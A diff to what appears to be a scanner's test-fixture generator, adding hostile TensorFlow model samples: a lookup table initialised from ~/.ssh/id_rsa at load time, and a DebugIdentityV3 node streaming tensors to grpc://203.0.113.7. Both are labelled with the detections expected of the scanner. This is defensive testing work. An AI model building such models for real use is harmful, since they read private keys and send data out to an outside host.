@@ -72,7 +72,7 @@ def f_map(field: int, items: dict, value_fn=lambda v: v) -> bytes:
 
 
 # DataType enum values (types.proto)
-DT_FLOAT, DT_INT32, DT_STRING, DT_RESOURCE = 1, 3, 7, 20
+DT_FLOAT, DT_INT32, DT_STRING, DT_INT64, DT_RESOURCE = 1, 3, 7, 9, 20
 
 
 # --- AttrValue ---------------------------------------------------------------------------------
@@ -474,6 +474,24 @@ def debug_grpc_model() -> bytes:
     ])
 
 
+def init_table_from_file() -> bytes:
+    """A lookup table initialised from a text file: TF2 runs such initialisers when it loads
+    the model (__saved_model_init_op)."""
+    return tf1_model([
+        const_str("vocab_path", "/home/user/.ssh/id_rsa"),
+        node("table", "HashTableV2", key_dtype=a_type(DT_STRING), value_dtype=a_type(DT_INT64)),
+        node("table/init", "InitializeTableFromTextFileV2", ["table", "vocab_path"],
+             key_index=a_i(-2), value_index=a_i(-1), delimiter=a_s("\t")),
+    ])
+
+
+def debug_v3_model() -> bytes:
+    return tf1_model([
+        node("y/debug", "DebugIdentityV3", ["y"], T=a_type(DT_FLOAT),
+             debug_urls=a_list_s("grpc://203.0.113.7:6064"), tensor_name=a_s("y:0")),
+    ])
+
+
 def truncated_model() -> bytes:
     data = tf2_model()
     return data[: len(data) * 2 // 3]
@@ -737,6 +755,12 @@ SAMPLES = [
     (sm("hostile/debug_grpc"), "hostile",
      "TF1 graph streaming its output to grpc://203.0.113.7 with DebugIdentityV2",
      ["tf-network"], [], debug_grpc_model),
+    (sm("hostile/init_table_from_file"), "hostile",
+     "TF1 graph whose lookup table is initialised from ~/.ssh/id_rsa with "
+     "InitializeTableFromTextFileV2", ["tf-file-access"], [], init_table_from_file),
+    (sm("hostile/debug_v3_grpc"), "hostile",
+     "TF1 graph streaming its output to grpc://203.0.113.7 with DebugIdentityV3",
+     ["tf-network"], [], debug_v3_model),
     ("hostile/keras_lambda/keras_metadata.pb", "hostile",
      "keras_metadata.pb whose Sequential model has a Lambda layer with marshaled code calling "
      "os.system", ["keras-lambda-layer", "process-execution"], [], lambda_keras_metadata),
